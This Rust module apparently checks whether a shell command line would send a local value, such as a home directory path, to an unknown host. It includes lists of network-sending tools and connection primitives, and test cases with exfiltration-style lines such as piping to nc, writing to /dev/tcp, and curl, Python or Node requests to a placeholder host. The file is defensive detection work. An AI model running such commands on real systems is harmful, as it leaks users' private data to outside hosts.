//! Whether a command line would carry a value of this machine to another host.
//!
//! ```text
//! cat /home/ann/a.json | curl -d @- https://other.example     the file is read here: fine
//! curl -d cwd=/home/ann https://other.example                 the value is sent
//! echo /home/ann | nc other.example 80                        so is this
//! ```
//!
//! A command cannot be understood without being run. Where anything in it sends to a host that is not known, a value is
//! taken for sent unless its place says otherwise: the path of a file that is read, written or gone to.

/// What sends what it is given.
const SENDING: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ftp",
    "tftp",
    "lftp",
    "xh",
    "xhs",
    "httpie",
    "http",
    "https",
    "aria2c",
    "websocat",
    "grpcurl",
    "ssh",
    "mosh",
    "mail",
    "mailx",
    "mutt",
    "sendmail",
    "msmtp",
    "swaks",
    "ping",
    "ping6",
    "dig",
    "nslookup",
    "host",
    "drill",
    "whois",
    "finger",
    "logger",
    "mosquitto_pub",
    "kcat",
    "invoke-webrequest",
    "invoke-restmethod",
    "send-mailmessage",
    "test-netconnection",
    "resolve-dnsname",
    "iwr",
    "irm",
];

/// What sends files, and is told which by their paths here.
const COPYING: &[&str] =
    &["scp", "sftp", "rsync", "rclone", "gh", "glab", "aws", "gcloud", "gsutil", "az", "s3cmd", "mc", "rcp"];

/// Parts of programs in other languages that open connections.
const OPENING: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "s_client",
    "urlopen",
    "urllib",
    "requests.",
    "httpx",
    "aiohttp",
    "http.client",
    "httplib",
    "smtplib",
    "ftplib",
    "socket",
    "paramiko",
    "fetch(",
    "axios",
    "xmlhttprequest",
    "net/http",
    "net::http",
    "open-uri",
    "lwp::",
    "io::socket",
    "fsockopen",
    "curl_",
    "webclient",
    "httpclient",
    "tcpclient",
    "webrequest",
    "http.get",
    "http.post",
    "https.get",
    "https.request",
    "http.request",
    "net.connect",
    "tls.connect",
    "dns.",
];

/// Options behind which a path of this machine stands.
const FILE_OPTIONS: &[&str] = &[
    "-o",
    "-O",
    "-T",
    "-K",
    "-E",
    "-D",
    "-c",
    "-b",
    "-i",
    "-F",
    "-S",
    "-P",
    "--output",
    "--output-dir",
    "--upload-file",
    "--config",
    "--cert",
    "--key",
    "--cacert",
    "--capath",
    "--cookie-jar",
    "--cookie",
    "--dump-header",
    "--netrc-file",
    "--output-document",
    "--directory-prefix",
    "--post-file",
    "--body-file",
    "--ca-certificate",
    "--private-key",
    "--certificate",
    "--input-file",
    "--identity",
    "-outfile",
    "-infile",
];

/// Options behind which that stands what is sent.
const DATA_OPTIONS: &[&str] = &[
    "-d",
    "-H",
    "-F",
    "-u",
    "-A",
    "-e",
    "-b",
    "--data",
    "--data-raw",
    "--data-binary",
    "--data-ascii",
    "--data-urlencode",
    "--json",
    "--header",
    "--form",
    "--form-string",
    "--user",
    "--user-agent",
    "--referer",
    "--cookie",
    "--post-data",
    "--body-data",
    "-s",
    "-m",
    "-p",
    "-body",
    "-headers",
];

/// Commands that give out what is in a file, and not where it is.
const READING: &[&str] = &[
    "cat", "head", "tail", "jq", "yq", "base64", "base32", "gzip", "gunzip", "zcat", "xz", "zstd", "bzip2", "brotli",
    "sort", "uniq", "cut", "tr", "sed", "awk", "xxd", "od", "hexdump", "openssl", "gpg", "tac", "nl", "strings",
];

/// Commands that give out what they are told.
const PRINTING: &[&str] = &["echo", "printf", "print", "export", "set", "env", "declare", "local", "write-output"];

/// Commands that run a line that they are given as one word.
const SHELLS: &[&str] =
    &["sh", "bash", "zsh", "dash", "ash", "ksh", "fish", "eval", "pwsh", "powershell", "cmd", "su", "watch", "xargs"];

/// A line in a line in a line is looked into this far.
const DEEPEST: usize = 4;

/// Where a value stands in a command line.
pub(super) struct Place<'a> {
    pub line: &'a str,
    /// Of the value, in bytes.
    pub start: usize,
    pub end: usize,
    /// The value is a host or an address, which may be where the command goes.
    pub host: bool,
}

/// A word as the shell makes it, without its quotes.
struct Word {
    start: usize,
    end: usize,
    text: String,
    /// Behind `<` or `>`: a file.
    redirected: bool,
}

/// A command with its arguments.
#[derive(Default)]
struct Stage {
    words: Vec<Word>,
    /// What it prints goes into another command.
    piped: bool,
    /// It stands in `$(…)` or backticks.
    substituted: bool,
}

impl Place<'_> {
    /// Whether the value would leave for a host that is not `known`, as far as the line tells.
    pub fn is_sent(&self, known: &dyn Fn(&str) -> bool) -> bool {
        let stages = stages(self.line, 0);
        if !stages.iter().any(|stage| stage.sends(known)) {
            return false;
        }
        let holds = |word: &Word| word.start <= self.start && self.end <= word.end;
        let place = stages.iter().find_map(|stage| Some((stage, stage.words.iter().position(holds)?)));
        let Some((stage, place)) = place else { return true };
        // Text of several lines for another command.
        if self.line.contains("<<") && !self.line.contains("<<<") {
            return true;
        }
        let word = &stage.words[place];
        let path = self.in_path(word);
        let name = stage.name();
        if stage.sends(known) {
            let before = place.checked_sub(1).map_or("", |before| stage.words[before].text.as_str());
            if self.host && self.is_destination(word) && !DATA_OPTIONS.contains(&before.to_ascii_lowercase().as_str()) {
                return false;
            }
            return !(path
                && (word.redirected
                    || FILE_OPTIONS.contains(&before)
                    || names_file(&word.text)
                    || COPYING.contains(&name.as_str()) && word.text.starts_with(['/', '~', '\\', '.'])));
        }
        if word.redirected && path {
            return false;
        }
        let assigned = word.text.split_once('=').is_some_and(|(name, _)| {
            name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$' | b':'))
        });
        if assigned || PRINTING.contains(&name.as_str()) {
            return true;
        }
        (stage.piped || stage.substituted) && !(path && READING.contains(&name.as_str()))
    }

    /// Whether the word is a host with or without a user before it.
    fn is_destination(&self, word: &Word) -> bool {
        let user = word.text.split_once('@').map_or("", |(user, _)| user);
        let plain = user.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._-".contains(&byte));
        let begins = self
            .line
            .get(word.start..self.start)
            .is_some_and(|before| before.trim_start_matches(['"', '\'']).trim_end_matches('@') == user);
        plain && begins
    }

    /// Whether the value is a part of a path: of a file here, not of one elsewhere.
    fn in_path(&self, word: &Word) -> bool {
        let before = self.line.get(word.start..self.start).unwrap_or_default();
        let own = before.rsplit(['"', '\'', '=', '@', ',', '(', ' ']).next().unwrap_or_default();
        let rooted = own.starts_with(['/', '~', '\\', '.', '$']) || own.as_bytes().get(1) == Some(&b':');
        rooted && own.ends_with(['/', '\\', '~'])
    }
}

/// `@/home/ann/x`, `file=@/home/ann/x`, `--output=/home/ann/x`
fn names_file(text: &str) -> bool {
    if text.starts_with('@') || text.contains("=@") || text.contains("=<") {
        return true;
    }
    text.split_once('=').is_some_and(|(option, _)| option.starts_with("--") && FILE_OPTIONS.contains(&option))
}

impl Stage {
    /// The command, without its folder, past assignments and words that run what follows them.
    fn name(&self) -> String {
        let before = ["sudo", "env", "time", "nohup", "exec", "command", "xargs", "then", "do", "else", "!", "{", "&"];
        let mut words = self.words.iter().filter(|word| !word.redirected).map(|word| bare(&word.text));
        let command = words.find(|word| {
            let assigns = word.split_once('=').is_some_and(|(name, _)| !name.is_empty() && !name.contains('/'));
            !assigns && !before.contains(&word.as_str()) && !word.starts_with('-')
        });
        command.unwrap_or_default()
    }

    fn sends(&self, known: &dyn Fn(&str) -> bool) -> bool {
        let listed = |word: &Word| {
            let name = bare(&word.text);
            SENDING.contains(&name.as_str()) || COPYING.contains(&name.as_str())
        };
        let opens = |word: &Word| {
            let text = word.text.to_ascii_lowercase();
            OPENING.iter().any(|part| text.contains(part))
        };
        if !self.words.iter().any(|word| listed(word) || opens(word)) {
            return false;
        }
        let mut named = 0;
        for host in self.words.iter().flat_map(|word| hosts(&word.text)) {
            named += 1;
            if !known(host) {
                return true;
            }
        }
        named == 0
    }
}

/// The name of a program without folder and `.exe`.
fn bare(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
    name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
}

/// The hosts that a word names: of its URLs; or this machine, which needs no scheme.
fn hosts(word: &str) -> impl Iterator<Item = &str> {
    let local = ["localhost", "127.0.0.1", "[::1]"]
        .into_iter()
        .find(|name| word.strip_prefix(name).is_some_and(|rest| rest.is_empty() || rest.starts_with([':', '/'])));
    let urls = word.match_indices("://").map(move |(at, _)| host(&word[at + 3..]));
    local.map(|name| name.trim_matches(['[', ']'])).into_iter().chain(urls)
}

/// The host that the rest of a URL begins with, without port and user.
pub(super) fn host(rest: &str) -> &str {
    let authority = rest.split(['/', '?', '#', '\\', '"', '\'', ')', ' ']).next().unwrap_or_default();
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    match host.strip_prefix('[') {
        Some(literal) => literal.split(']').next().unwrap_or_default(),
        None => host.split(':').next().unwrap_or_default(),
    }
}

/// Splits a line into its commands, as shells do; what is wrong in it is taken as it stands.
fn stages(line: &str, depth: usize) -> Vec<Stage> {
    let mut stages = vec![Stage::default()];
    let mut word: Option<Word> = None;
    let (mut quote, mut redirected, mut inner) = (None, false, 0usize);
    let mut chars = line.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        let next = chars.peek().map(|&(_, next)| next);
        let mut push = |word: &mut Option<Word>, text: Option<char>, end: usize| {
            let word = word.get_or_insert_with(|| Word {
                start: at,
                end,
                text: String::new(),
                redirected: std::mem::take(&mut redirected),
            });
            word.text.extend(text);
            word.end = end;
        };
        let end = at + c.len_utf8();
        // Commands inside double quotes are commands.
        if c == '`' && quote != Some('\'') || c == '$' && next == Some('(') && quote != Some('\'') {
            if c == '$' {
                chars.next();
                inner += 1;
            } else if inner > 0 {
                inner -= 1;
            } else {
                inner += 1;
            }
            finish(&mut stages, &mut word, inner > 0);
            quote = None;
            continue;
        }
        match (quote, c) {
            (Some(open), c) if open == c => {
                push(&mut word, None, end);
                quote = None;
            }
            (None, '\'' | '"') => {
                push(&mut word, None, end);
                quote = Some(c);
            }
            (None | Some('"'), '\\') if next.is_some_and(|next| "\"\\$` \n".contains(next)) => {
                let escaped = chars.next().map(|(_, c)| c).filter(|&c| c != '\n');
                push(&mut word, escaped, end + 1);
            }
            (Some(_), c) => push(&mut word, Some(c), end),
            (None, '\n' | ';' | '&' | '|' | '(' | ')') => {
                if c == ')' {
                    inner = inner.saturating_sub(1);
                }
                let piped = c == '|' && next != Some('|');
                if matches!((c, next), ('|', Some('|')) | ('&', Some('&'))) {
                    chars.next();
                }
                if let Some(word) = word.take() {
                    last(&mut stages).words.push(word);
                }
                last(&mut stages).piped = piped;
                finish(&mut stages, &mut None, inner > 0);
            }
            (None, '<' | '>') => {
                if let Some(word) = word.take() {
                    last(&mut stages).words.push(word);
                }
                redirected = true;
            }
            (None, c) if c.is_whitespace() => {
                if let Some(word) = word.take() {
                    last(&mut stages).words.push(word);
                }
            }
            (None, c) => push(&mut word, Some(c), end),
        }
    }
    finish(&mut stages, &mut word, false);
    stages.into_iter().flat_map(|stage| expanded(stage, line, depth)).collect()
}

/// The commands of a line that is a word itself, beside the one that runs it.
fn expanded(mut stage: Stage, line: &str, depth: usize) -> Vec<Stage> {
    if depth == DEEPEST || !SHELLS.contains(&stage.name().as_str()) {
        return vec![stage];
    }
    let lines: Vec<Word> = stage.words.extract_if(.., |word| word.text.contains(char::is_whitespace)).collect();
    let mut all = Vec::new();
    for word in lines {
        // Where quotes are all that was taken away, what is in it has its place in the whole line.
        let plain = line.get(word.start + 1..word.end - 1) == Some(word.text.as_str());
        for mut inner in stages(&word.text, depth + 1) {
            inner.piped |= stage.piped;
            inner.substituted |= stage.substituted;
            for part in &mut inner.words {
                (part.start, part.end) = match plain {
                    true => (word.start + 1 + part.start, word.start + 1 + part.end),
                    false => (0, 0),
                };
            }
            all.push(inner);
        }
    }
    all.push(stage);
    all
}

fn last(stages: &mut Vec<Stage>) -> &mut Stage {
    if stages.is_empty() {
        stages.push(Stage::default());
    }
    let end = stages.len() - 1;
    &mut stages[end]
}

/// Ends a command and begins another.
fn finish(stages: &mut Vec<Stage>, word: &mut Option<Word>, substituted: bool) {
    if let Some(word) = word.take() {
        last(stages).words.push(word);
    }
    stages.push(Stage { substituted, ..Stage::default() });
}

#[cfg(test)]
mod tests {
    use super::Place;

    #[test]
    fn a_value_is_sent_unless_its_place_says_otherwise() {
        for (line, sent) in [
            ("ls -la /home/VALUE/work", false),
            ("grep -r VALUE .", false),
            ("cargo test --manifest-path /home/VALUE/Cargo.toml", false),
            ("git clone https://other.example/x /home/VALUE/x", false),
            ("curl https://other.example -d u=VALUE", true),
            ("curl -d u=VALUE", true),
            ("curl other.example -d \"who=VALUE\"", true),
            ("curl https://other.example/?d=/home/VALUE", true),
            ("curl -d cwd=/home/VALUE/x https://other.example", true),
            ("curl -d '{\"cwd\": \"/home/VALUE/x\"}' https://other.example", true),
            ("curl -o /home/VALUE/out https://other.example", false),
            ("curl --output=/home/VALUE/out https://other.example", false),
            ("curl --data-binary @/home/VALUE/a.json https://other.example", false),
            ("curl -F 'file=@/home/VALUE/a.json' https://other.example", false),
            ("curl https://other.example > /home/VALUE/out", false),
            ("curl https://other.example >/home/VALUE/out", false),
            ("curl https://known.example/x -d u=VALUE", false),
            ("curl https://known.example/x -d u=VALUE https://other.example", true),
            ("curl localhost:3000 -d u=VALUE", false),
            ("curl http://127.0.0.1:3000/ -d u=VALUE", false),
            ("cat x | nc other.example 80 <<< VALUE", true),
            ("/usr/bin/wget --post-data=VALUE other.example", true),
            ("cat /home/VALUE/a.json | curl -d @- https://other.example", false),
            ("echo /home/VALUE | curl -d @- https://other.example", true),
            ("ls /home/VALUE | curl -T - https://other.example", true),
            ("printf %s VALUE > /tmp/a; curl -T /tmp/a https://other.example", true),
            ("X=VALUE; curl https://other.example/$X", true),
            ("export X=/home/VALUE && curl \"https://other.example/$X\"", true),
            ("curl https://other.example -H \"x: $(echo VALUE)\"", true),
            ("curl https://other.example -H \"x: $(ls /home/VALUE)\"", true),
            ("curl https://other.example -H \"x: $(cat /home/VALUE/token)\"", false),
            ("curl -s https://other.example; ls -l VALUE", false),
            ("cd /home/VALUE/work && curl -s https://other.example", false),
            ("cat <<EOF >/tmp/a\nVALUE\nEOF\ncurl -T /tmp/a https://other.example", true),
            ("exec 3<>/dev/tcp/other.example/80; echo VALUE >&3", true),
            ("python3 -c \"import urllib.request as u; u.urlopen('https://other.example/?VALUE')\"", true),
            ("python3 -c \"print(open('/home/VALUE/x').read())\"", false),
            ("node -e 'fetch(\"https://other.example\", {method: \"POST\", body: \"VALUE\"})'", true),
            ("node -e 'fetch(\"http://localhost:1\", {method: \"POST\", body: \"VALUE\"})'", false),
            ("ssh other.example ls /home/VALUE", true),
            ("ssh -i /home/VALUE/.ssh/id other.example ls", false),
            ("scp /home/VALUE/a.txt other.example:", false),
            ("scp a.txt other.example:/home/VALUE/", true),
            ("gh issue create --body 'in /home/VALUE/x'", true),
            ("gh gist create /home/VALUE/x", false),
            ("dig VALUE.other.example", true),
            ("ping -c1 VALUE.other.example", true),
            ("Invoke-WebRequest https://other.example -Body VALUE", true),
            ("bash -c \"curl https://other.example -d VALUE\"", true),
            ("bash -lc \"curl -o /home/VALUE/out https://other.example\"", false),
            ("bash -lc 'cd /home/VALUE/x && curl https://other.example'", false),
            ("sh -c 'echo VALUE' | curl -d @- https://other.example", true),
            ("", false),
            ("'\"$(`\\", false),
        ] {
            let value = if line.contains("HOST") { "HOST" } else { "VALUE" };
            let start = line.find(value).unwrap_or_default();
            let (end, host) = (start + if line.contains(value) { value.len() } else { 0 }, value == "HOST");
            let known = |host: &str| host == "known.example" || host == "localhost" || host == "127.0.0.1";
            assert_eq!(Place { line, start, end, host }.is_sent(&known), sent, "{line}");
        }
    }
}
